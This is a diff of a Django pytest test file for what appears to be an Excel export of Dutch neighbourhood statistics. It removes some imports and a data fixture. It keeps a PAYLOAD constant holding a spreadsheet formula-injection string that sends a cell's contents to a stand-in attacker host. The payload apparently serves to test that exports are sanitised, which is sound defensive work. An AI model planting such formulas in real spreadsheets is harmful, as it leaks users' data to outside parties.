@@ -8,24 +8,9 @@ import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from ivp.areas.models import Population
-from ivp.indicators.models import ImportBatch, Observation
-
 pytestmark = pytest.mark.django_db
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B2,"klik")'
-
-
-@pytest.fixture
-def figures(areas):
-    """Vught's first buurt far above the rest, so its wijk stands out (test fixture)."""
-    batch = ImportBatch.objects.create(source="snapshot", location="test")
-    for code, values in {"GM0865": (150, 40), "GM0797": (40, 40)}.items():
-        for buurt, value in zip(areas[code]["buurten"], values, strict=True):
-            Population.objects.create(area=buurt, year=2023, value=1000, boundary_year=2023, source_table="85984NED")
-            Observation.objects.create(table="47022NED", category="0.0.0", area=buurt, year=2023, month=0,
-                                       value=value, boundary_year=2023, batch=batch)
-    return areas
 
 
 @pytest.fixture
